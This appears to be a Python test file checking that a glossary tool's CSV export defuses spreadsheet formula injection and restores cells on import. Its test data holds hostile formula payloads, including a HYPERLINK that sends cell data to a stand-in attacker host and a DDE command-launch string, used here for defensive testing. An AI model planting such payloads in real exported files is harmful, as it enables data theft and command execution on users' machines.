"""CSV injection: cells a spreadsheet would run as formulas are neutralised on export (OWASP) and
restored on import, so the glossary reads back byte for byte."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from hubdocs.exchange.csv_write import export_csv
from hubdocs.exchange.importer import import_glossary
from hubdocs.exchange.spreadsheet_formulas import FORMULA_STARTS, neutralise, restore
from hubdocs.glossary.loader import load_glossary
from tests.glossary.support import copy_case, snapshot

FORMULAS = {
    "definition": '=HYPERLINK("https://attacker.example/?"&A1,"Click")',
    "notes": "+1+cmd|' /C calc'!A0",
    "variants": '["-2+3", "@SUM(1+1)"]',
}


def test_cells_starting_like_a_formula_get_an_apostrophe() -> None:
    assert neutralise("=1+1") == "'=1+1"
    assert neutralise("+1") == "'+1"
    assert neutralise("-1") == "'-1"
    assert neutralise("@SUM(A1)") == "'@SUM(A1)"
    assert neutralise("\t=1") == "'\t=1"
    assert neutralise("\r=1") == "'\r=1"
    assert neutralise("'=1") == "''=1"
    assert neutralise("'quoted") == "'quoted"
    assert neutralise("1 = 1") == "1 = 1"
    assert restore("'=1+1") == "=1+1"
    assert restore("''=1") == "'=1"
    assert restore("'quoted") == "'quoted"


@given(st.text(alphabet=st.sampled_from([*FORMULA_STARTS, "'", "a", " ", "1"]), max_size=8))
def test_restore_undoes_neutralise(cell: str) -> None:
    assert restore(neutralise(cell)) == cell
    assert not neutralise(cell).startswith(tuple(FORMULA_STARTS))


def _hostile_project(tmp_path: Path) -> Path:
    root = copy_case("valid", tmp_path / "project")
    concepts = root / "glossary" / "concepts.yml"
    text = concepts.read_text(encoding="utf-8")
    text = text.replace(
        "    definition: Your sales representative.\n",
        f"    definition: '{FORMULAS['definition'].replace(chr(39), chr(39) * 2)}'\n",
    ).replace(
        "    notes: Role title; translate with the approved term.\n",
        f'    notes: "{FORMULAS["notes"]}"\n',
    )
    concepts.write_text(text, encoding="utf-8")
    french = root / "glossary" / "fr.yml"
    text = french.read_text(encoding="utf-8").replace(
        "  account-executive:\n", f"  account-executive:\n    variants: {FORMULAS['variants']}\n"
    )
    french.write_text(text, encoding="utf-8")
    return root


def test_no_exported_cell_starts_a_formula_and_the_glossary_reads_back(tmp_path: Path) -> None:
    root = _hostile_project(tmp_path)
    glossary = load_glossary(root / "glossary")
    assert glossary["account-executive"].definition == FORMULAS["definition"]
    text = export_csv(glossary)
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    row = next(row for row in rows if row["ID"] == "account-executive")
    assert row["Definition [en]"] == "'" + FORMULAS["definition"]
    assert row["Notes [en]"] == "'" + FORMULAS["notes"]
    assert row["Variants [fr]"] == "'-2+3 | @SUM(1+1)"
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert not [cell for cell in cells if cell.startswith(tuple(FORMULA_STARTS))]
    exported = tmp_path / "glossary.csv"
    exported.write_text(text, encoding="utf-8")
    before = snapshot(root / "glossary")
    assert import_glossary(exported, root / "glossary", display_root=root).changed == {}
    assert snapshot(root / "glossary") == before
